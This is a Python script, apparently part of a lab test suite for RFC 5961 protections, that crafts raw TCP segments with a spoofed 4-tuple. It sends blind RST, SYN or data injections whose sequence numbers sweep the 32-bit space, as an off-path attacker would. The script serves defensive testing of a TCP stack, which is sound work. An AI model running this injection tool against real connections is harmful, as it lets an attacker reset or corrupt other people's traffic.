#!/usr/bin/env python3
"""Blind TCP injection for the RFC 5961 lab test (bin/tests/attacks_afxdp.rs).

    inject.py SRC_IP SRC_PORT DST_IP DST_PORT KIND COUNT

Sends COUNT segments of KIND through a raw socket, spoofing the 4-tuple of a live
connection without knowing its sequence numbers: their sequence numbers step evenly
over the whole 32-bit space from a random start (so some land inside the receive
window, none is likely to be exactly RCV.NXT), as an off-path attacker would guess.
KIND: rst (RST), syn (SYN), data (ACK+PSH with one byte and a random ACK number).
Prints how many were sent. Needs root (CAP_NET_RAW).
"""
import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(src, dst, sport, dport, seq, ack, flags, payload=b""):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(
        "!BBH", 0, socket.IPPROTO_TCP, len(header) + len(payload)
    )
    csum = checksum(pseudo + header + payload)
    return header[:16] + struct.pack("!H", csum) + header[18:] + payload


def main() -> None:
    src, sport, dst, dport, kind, count = sys.argv[1:7]
    sport, dport, count = int(sport), int(dport), int(count)
    flags = {"rst": 0x04, "syn": 0x02, "data": 0x18}[kind]
    payload = b"X" if kind == "data" else b""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    start = random.getrandbits(32)
    step = (1 << 32) // count
    sent = 0
    for i in range(count):
        seq = (start + i * step) & 0xFFFFFFFF
        ack = random.getrandbits(32) if kind == "data" else 0
        sock.sendto(segment(src, dst, sport, dport, seq, ack, flags, payload), (dst, 0))
        sent += 1
    print(f"sent {sent} {kind}")


if __name__ == "__main__":
    main()
